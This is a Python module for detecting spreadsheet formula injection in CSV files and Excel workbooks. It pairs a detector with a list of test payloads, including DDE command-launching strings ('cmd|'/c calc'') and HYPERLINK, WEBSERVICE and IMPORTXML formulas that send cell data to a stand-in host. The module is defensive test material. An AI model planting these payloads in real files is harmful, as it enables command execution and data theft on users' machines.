"""Texts that spreadsheets run as formulas, and what finds live ones in files."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

CALLS = (
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("http://example.org/?x="&A1,"Click")',
    "=cmd|'/c calc'!A1",
    '=DDE("cmd";"/c calc";"x")',
    '=WEBSERVICE("http://example.org")',
    '=IMPORTXML(CONCAT("http://example.org",A1),"//a")',
    "+1+1",
    "+cmd|'/c calc'!A1",
    "-1+1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "@A1",
    "=-1",
    "==1",
    "=@A1",
    "=+1",
    "-=1",
    "+@1",
    "@=1",
)
PAYLOADS = (
    *CALLS,
    *(f" {call}" for call in CALLS[:4]),
    *(f"\u00a0{call}" for call in CALLS[:4]),
    *(f"\t{call}" for call in CALLS[:3]),
    *(f"\r{call}" for call in CALLS[:2]),
    *(f"\n{call}" for call in CALLS[:2]),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\u3000＝1+1"),
)
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_LIVE = re.compile(r"[\s\u00a0\u3000]*[=+\-@＝＋－＠]|[\t\r\n]")


def cells_of(file: Path, separator: str = ",") -> list[list[str]]:
    """Give the cells of a CSV file, its header first."""
    with file.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream, delimiter=separator))


def live_in_csv(file: Path, separator: str = ",") -> list[str]:
    """Give the cells of a CSV file that a spreadsheet would run."""
    return [cell for row in cells_of(file, separator) for cell in row if _LIVE.match(cell)]


def live_in_workbook(file: Path) -> list[str]:
    """Give the cells of a workbook that are formulas, or text that becomes one when edited."""
    with zipfile.ZipFile(file) as package:
        styles = ET.fromstring(package.read("xl/styles.xml"))  # noqa: S314 - our own
        formats = next(styles.iter(f"{MAIN}cellXfs"))
        quoted = [each.get("quotePrefix") == "1" for each in formats]
        sheets = [
            ET.fromstring(package.read(name))  # noqa: S314 - our own
            for name in package.namelist()
            if name.startswith("xl/worksheets/sheet")
        ]
    cells = [cell for sheet in sheets for cell in sheet.iter(f"{MAIN}c")]
    return [cell.get("r", "") for cell in cells if _is_live(cell, quoted)]


def _is_live(cell: ET.Element, quoted: list[bool]) -> bool:
    if cell.find(f"{MAIN}f") is not None:
        return True
    is_text = cell.get("t") in {"s", "str", "inlineStr"}
    return is_text and not quoted[int(cell.get("s", "0"))]
